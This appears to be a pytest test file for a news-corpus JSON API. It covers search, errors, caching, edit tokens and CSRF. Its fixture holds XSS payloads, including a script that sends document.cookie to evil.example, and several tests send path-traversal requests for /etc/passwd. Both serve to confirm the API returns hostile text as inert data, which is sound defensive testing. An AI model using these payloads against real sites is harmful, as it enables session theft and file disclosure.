"""The JSON API in-process (FastAPI's TestClient over httpx): search across
alphabets, hostile text as data, errors with the right status, ETags, the edit
token and CSRF, and quote corrections that survive re-ingest and re-linking."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from types import SimpleNamespace

import pytest
from fastapi.testclient import TestClient

from presswatch import Corpus
from presswatch.web import create_app
from presswatch.web.security import TOKEN_COOKIE, csrf_token

FIXTURES = Path(__file__).parent / "corpus_fixtures"
TOKEN = "correct-horse-battery-staple-42"
# A news-please record (title kept as given) full of markup: script tags, event
# handler attributes, a javascript: link, a cookie thief; in title, body, quotes
# and the lines the cleaner removes.
HOSTILE = {
    "url": "https://hostile.example/kavaliou",
    "title": "<script>alert('title')</script> Minister Kavaliou opens <img src=x onerror=alert(1)> substation",
    "maintext": (
        "HRODNA, March 9, 2026 — Minister Alyaksandr Kavaliou opened a substation near Hrodna on Monday,"
        " promising that the new power line would be ready before the winter.\n\n"
        '"The line will be ready by winter," Kavaliou said, adding that officials who'
        " <b onmouseover=alert(4)>fail</b> would answer for it.\n\n"
        'Read the minister\'s statement about the substation <a href="javascript:alert(3)">in full</a>'
        " on the ministry's website, where it was posted on Monday.\n\n"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    ),
    "date_publish": "2026-03-09 10:00:00",
}


@pytest.fixture(scope="module")
def corpus_dir(tmp_path_factory, analyze):
    """The seed-like corpus articles plus a hostile one, ingested into a fresh store."""
    root = tmp_path_factory.mktemp("web")
    articles = root / "articles"
    shutil.copytree(FIXTURES, articles)
    (articles / "06-hostile.jsonl").write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
    with Corpus(root / "web.db") as corpus:
        corpus.ingest([str(articles)])
    return root


@pytest.fixture(scope="module")
def client(corpus_dir):
    with TestClient(create_app(corpus_dir / "web.db")) as c:
        yield c


@pytest.fixture
def editable(tmp_path, corpus_dir):
    """A store of its own, served with edits allowed (each test edits its own)."""
    shutil.copytree(corpus_dir / "articles", tmp_path / "articles")
    with Corpus(tmp_path / "web.db") as corpus:
        corpus.ingest([str(tmp_path / "articles")])
    with TestClient(create_app(tmp_path / "web.db", allow_edits=True, token=TOKEN)) as c:
        yield c, tmp_path


def auth(user: str = "tester") -> dict:
    return {"Authorization": f"Bearer {TOKEN}", "X-Presswatch-User": user}


def test_cyrillic_search_finds_the_latin_spelled_person(client):
    r = client.get("/api/search", params={"q": "Лукашенко"})
    assert r.status_code == 200
    hits = r.json()["items"]
    assert any(h["kind"] == "entity" and "Lukashenka" in h["title"] for h in hits)
    entity = client.get("/api/entities", params={"q": "Лукашэнка"}).json()["items"][0]
    assert entity["name"].endswith("Lukashenka")
    dossier = client.get(f"/api/entities/{entity['id']}").json()
    assert "Лукашэнка" in dossier["aliases"]["Cyrillic"]


def test_hostile_text_comes_back_as_data_with_a_strict_csp(client):
    r = client.get("/api/articles", params={"limit": 50})
    hostile = [a for a in r.json()["items"] if a["source"] == HOSTILE["url"]]
    assert len(hostile) == 1
    doc = client.get(f"/api/articles/{hostile[0]['id']}")
    assert doc.headers["content-type"] == "application/json"
    assert doc.headers["x-content-type-options"] == "nosniff"
    csp = doc.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "object-src 'none'" in csp
    body = doc.json()
    # the text is data, exactly as stored: nothing stripped, nothing executed
    assert body["title"] == HOSTILE["title"]
    assert "<b onmouseover=alert(4)>fail</b>" in body["text"]
    assert any("<b onmouseover" in q["content"] for q in body["quotes"])
    removed = " ".join(x["text"] for x in body["removed"])
    assert 'href="javascript:alert(3)"' in removed and "document.cookie</script>" in removed
    hits = client.get("/api/search", params={"q": "substation onerror"}).json()["items"]
    assert hits and hits[0]["article_title"] == HOSTILE["title"]


@pytest.mark.parametrize(
    "q",
    ['"', '"""', "a" * 10_000, "NEAR(a b", 'Kavaliou" OR "', "*", "title:^x", "AND OR NOT", "(((", "\x00x", " "],
)
def test_malformed_search_is_a_400_or_an_answer_never_a_500(client, q):
    r = client.get("/api/search", params={"q": q})
    assert r.status_code in (200, 400), r.text
    assert r.headers["content-type"] == "application/json"
    if r.status_code == 400:
        assert r.json()["error"]


def test_errors_are_json_with_their_status(client):
    assert client.get("/api/search", params={"q": "a" * 10_000}).status_code == 400
    assert client.get("/api/search").status_code == 422
    nobody = client.get("/api/entities/Nobody%20Atall")
    assert nobody.status_code == 404 and "Nobody" in nobody.json()["error"]
    assert client.get("/api/articles/0123456789abcdef").status_code == 404
    assert client.get("/api/articles/..%2F..%2Fetc%2Fpasswd").status_code == 404
    assert client.get("/api/quotes", params={"since": "yesterday"}).status_code == 422
    assert client.get("/api/quotes", params={"limit": 0}).status_code == 422
    assert client.get("/static/../../../etc/passwd").status_code == 404
    assert client.get("/api/export/../../web.db").status_code == 404


def test_pages_of_lists_link_to_the_next(client):
    first = client.get("/api/entities", params={"limit": 2}).json()
    assert len(first["items"]) == 2 and first["total"] > 2 and first["next"]
    second = client.get(first["next"]).json()
    assert second["offset"] == 2 and {e["id"] for e in second["items"]}.isdisjoint(e["id"] for e in first["items"])


def test_quotes_filters_and_exports(client):
    by = client.get("/api/quotes", params={"speaker": "Лукашэнка"}).json()["items"]
    assert by and all(q["speaker_entity"] == by[0]["speaker_entity"] for q in by)
    assert client.get("/api/quotes", params={"outlet": "%", "kind": "direct"}).json()["items"] == []
    csv = client.get("/api/export/quotes", params={"format": "csv"})
    assert csv.status_code == 200 and csv.text.startswith("article_id,n,source")
    lines = client.get("/api/export/documents").text.splitlines()
    assert len(lines) == client.get("/api/stats").json()["articles"]
    assert client.get("/api/export/documents", params={"format": "csv"}).status_code == 400
    assert client.get("/openapi.json").json()["paths"]["/api/search"]


def test_etag_gives_304_until_the_corpus_changes(editable):
    client, _ = editable
    r = client.get("/api/stats")
    etag = r.headers["etag"]
    assert etag.startswith('W/"')
    assert client.get("/api/stats", headers={"If-None-Match": etag}).status_code == 304
    quote = client.get("/api/quotes", params={"limit": 1}).json()["items"][0]
    fix = {"article_id": quote["article_id"], "n": quote["n"], "not_quote": True}
    assert client.post("/api/review/quote", json=fix, headers=auth()).status_code == 200
    after = client.get("/api/stats", headers={"If-None-Match": etag})
    assert after.status_code == 200 and after.headers["etag"] != etag


def test_answers_are_kept_until_the_corpus_changes(editable):
    client, _ = editable
    first = client.get("/api/quotes", params={"limit": 3})
    again = client.get("/api/quotes", params={"limit": 3})
    assert (first.headers["x-cache"], again.headers["x-cache"]) == ("miss", "hit")
    assert again.content == first.content and again.headers["content-security-policy"]
    quote = first.json()["items"][0]
    fix = {"article_id": quote["article_id"], "n": quote["n"], "not_quote": True}
    assert client.post("/api/review/quote", json=fix, headers=auth()).status_code == 200
    after = client.get("/api/quotes", params={"limit": 3})
    assert after.headers["x-cache"] == "miss" and quote["content"] not in after.text


def test_edits_need_the_token(client, editable):
    body = {"a": "Kavaliou", "b": "Lukashenka"}
    assert client.post("/api/review/merge", json=body, headers=auth()).status_code == 403  # read-only server
    editor, _ = editable
    assert editor.post("/api/review/merge", json=body).status_code == 401
    wrong = {"Authorization": "Bearer not-the-token"}
    assert editor.post("/api/review/merge", json=body, headers=wrong).status_code == 403
    assert editor.post("/api/review/merge", json=body, headers={"Authorization": "Basic x"}).status_code == 401
    # a cookie token (a browser) also needs a CSRF token: another site cannot forge the form
    editor.cookies.set(TOKEN_COOKIE, TOKEN)
    assert editor.post("/api/review/rename", json={"entity": "Lukashenka", "name": "A. Lukashenka"}).status_code == 403
    editor.cookies.clear()


def test_cookie_login_with_csrf_token_may_edit(editable):
    client, _ = editable
    client.cookies.set(TOKEN_COOKIE, TOKEN)

    # what a page would put in its form: csrf_token reads the app's secret and the client's cookie
    token = csrf_token(SimpleNamespace(app=client.app, cookies={TOKEN_COOKIE: TOKEN}))  # type: ignore[arg-type]
    r = client.post(
        "/api/review/rename",
        json={"entity": "Лукашэнка", "name": "Aliaksandr Lukashenka"},
        headers={"X-CSRF-Token": token},
    )
    assert r.status_code == 200, r.text
    assert r.json()["name"] == "Aliaksandr Lukashenka"
    client.cookies.clear()


def test_oversized_body_is_refused(editable):
    client, _ = editable
    r = client.post("/api/review/merge", content=b"x" * (7 * 2**20), headers=auth())
    assert r.status_code == 413


def _lukashenka_quote(client) -> dict:
    found = client.get("/api/quotes", params={"speaker": "Lukashenka"}).json()["items"]
    return next(q for q in found if "forgiven" in q["content"])


def test_quote_correction_survives_reingest_and_relink(editable):
    client, root = editable
    quote = _lukashenka_quote(client)
    fix = {"article_id": quote["article_id"], "n": quote["n"], "speaker": "Kavaliou", "note": "he was quoting"}
    assert client.post("/api/review/quote", json=fix).status_code == 401
    r = client.post("/api/review/quote", json=fix, headers=auth("ana"))
    assert r.status_code == 200, r.text

    def by(name: str) -> set[str]:
        items = client.get("/api/quotes", params={"speaker": name, "limit": 500}).json()["items"]
        return {q["content"] for q in items}

    def check() -> None:
        assert quote["content"] in by("Alyaksandr Kavaliou")
        assert quote["content"] not in by("Lukashenka")
        dossier = client.get("/api/entities/Lukashenka").json()
        assert quote["content"] not in {q["content"] for q in dossier["quotes_by"]}

    check()
    judgement = client.get("/api/judgements").json()["items"][0]
    assert judgement["user"] == "ana" and judgement["at"] and judgement["previous"]["speaker_name"]
    with Corpus(root / "web.db") as corpus:  # the same files again, then every block re-linked
        assert corpus.ingest([str(root / "articles")])["new"] == 0
        corpus.link(everything=True)
    check()
    # the file edited: a new version of its source keeps the correction where it still has the quote
    edited = next((root / "articles").glob("05-*"))
    edited.write_text(edited.read_text(encoding="utf-8") + "\nThe ministry did not comment.\n", encoding="utf-8")
    with Corpus(root / "web.db") as corpus:
        assert corpus.ingest([str(root / "articles")])["new"] == 1
    check()


def test_not_a_quote_leaves_every_list(editable):
    client, _ = editable
    quote = _lukashenka_quote(client)
    before = client.get("/api/stats").json()["quotes"]
    fix = {"article_id": quote["article_id"], "n": quote["n"], "not_quote": True}
    assert client.post("/api/review/quote", json=fix, headers=auth()).status_code == 200
    assert client.get("/api/stats").json()["quotes"] == before - 1
    contents = {q["content"] for q in client.get("/api/quotes", params={"limit": 500}).json()["items"]}
    assert quote["content"] not in contents
    article = client.get(f"/api/articles/{quote['article_id']}").json()
    assert quote["content"] not in {q["content"] for q in article["quotes"]}
    assert article["judgements"][0]["kind"] == "not_quote"
    bad = {"article_id": quote["article_id"], "n": quote["n"], "not_quote": True, "speaker": "X"}
    assert client.post("/api/review/quote", json=bad, headers=auth()).status_code == 422
    anonymous = {"Authorization": f"Bearer {TOKEN}"}
    assert client.post("/api/review/quote", json=fix, headers=anonymous).status_code == 400


def test_oversized_chunked_body_is_refused_while_read(editable):
    client, _ = editable

    def chunks():
        for _ in range(8):
            yield b"x" * 2**20

    r = client.post("/api/review/merge", content=chunks(), headers=auth())
    assert r.status_code == 413
